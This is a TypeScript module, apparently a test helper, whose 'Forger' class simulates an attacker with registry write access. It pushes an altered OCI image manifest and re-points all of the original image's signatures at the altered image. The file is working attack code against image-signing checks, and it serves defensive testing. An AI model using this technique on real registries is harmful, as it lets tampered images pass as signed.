import { createHash } from 'node:crypto';

const MANIFEST = 'application/vnd.oci.image.manifest.v1+json';
const INDEX = 'application/vnd.oci.image.index.v1+json';

interface Manifest {
  readonly mediaType?: string;
  readonly annotations?: Readonly<Record<string, string>>;
  readonly subject?: { readonly digest: string; readonly size: number; readonly mediaType: string };
}

const digestOf = (text: string): string =>
  `sha256:${createHash('sha256').update(text).digest('hex')}`;

/** An attacker with write access to a registry, who alters an image by plain requests. */
export class Forger {
  readonly #base: string;

  /** @param registry address, `http://host:port` */
  constructor(registry: string, repository: string) {
    this.#base = `${registry}/v2/${repository}`;
  }

  /** Pushes an altered image, and copies all signatures of the original with the altered image as subject. */
  async alter(digest: string): Promise<string> {
    const { text, type } = await this.#manifest(digest);
    const original = JSON.parse(text) as Manifest;
    const annotations = { ...original.annotations, 'org.example.altered': 'yes' };
    const altered = JSON.stringify({ ...original, annotations });
    await this.#push(altered, type);
    const subject = {
      mediaType: type,
      digest: digestOf(altered),
      size: Buffer.byteLength(altered),
    };
    for (const referrer of await this.#referrers(digest)) {
      const signature = await this.#manifest(referrer);
      const moved = { ...(JSON.parse(signature.text) as Manifest), subject };
      await this.#push(JSON.stringify(moved), signature.type);
    }
    return subject.digest;
  }

  async #manifest(digest: string): Promise<{ readonly text: string; readonly type: string }> {
    const headers = { accept: `${MANIFEST}, ${INDEX}, */*` };
    const response = await fetch(`${this.#base}/manifests/${digest}`, { headers });
    if (!response.ok) throw new Error(`the registry returned ${response.status} for ${digest}`);
    const type = response.headers.get('content-type') ?? MANIFEST;
    return { text: await response.text(), type };
  }

  async #referrers(digest: string): Promise<readonly string[]> {
    const response = await fetch(`${this.#base}/referrers/${digest}`);
    const { manifests } = (await response.json()) as {
      readonly manifests: readonly { readonly digest: string }[];
    };
    return manifests.map((manifest) => manifest.digest);
  }

  async #push(text: string, type: string): Promise<void> {
    const response = await fetch(`${this.#base}/manifests/${digestOf(text)}`, {
      method: 'PUT',
      headers: { 'content-type': type },
      body: text,
    });
    if (!response.ok)
      throw new Error(`the registry rejected the forged manifest: ${response.status}`);
  }
}
